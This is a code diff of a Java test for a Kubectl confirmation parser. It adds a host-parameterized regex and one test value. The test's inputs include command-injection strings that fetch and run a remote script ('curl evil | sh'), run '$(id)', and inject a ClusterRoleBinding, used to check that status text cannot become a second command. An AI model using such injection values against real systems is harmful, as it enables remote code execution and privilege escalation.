@@ -3,6 +3,7 @@ package dev.trustedaccess.mapping;
 import java.time.Instant;
 import java.util.Optional;
 import java.util.regex.MatchResult;
+import java.util.regex.Pattern;
 
 import dev.trustedaccess.api.v1alpha1.ServiceConfirmation;
 import dev.trustedaccess.domain.declaration.ConfirmationType;
@@ -39,7 +40,8 @@ class KubectlConfirmationTest {
   }
 
   private static Optional<ServiceConfirmation> confirmation(String message) {
-    return KubectlConfirmation.COMMAND.matcher(message)
+    return Pattern.compile(KubectlConfirmation.pattern("fms.amazonaws.com"))
+        .matcher(message)
         .results()
         .map(MatchResult::group)
         .map(command -> command.substring(command.indexOf('{'), command.lastIndexOf('}') + 1))
@@ -86,6 +88,7 @@ class KubectlConfirmationTest {
   /** Whoever may write status must not make another command of it for those who copy it. */
   @ParameterizedTest
   @ValueSource(strings = {
+      "sso.amazonaws.com",
       "\"}}}' | kubectl apply -f -; curl evil | sh; echo '{",
       "x'$(id)'",
       "x\"},\"kind\":\"ClusterRoleBinding\",\"a\":{\"b\":\"",
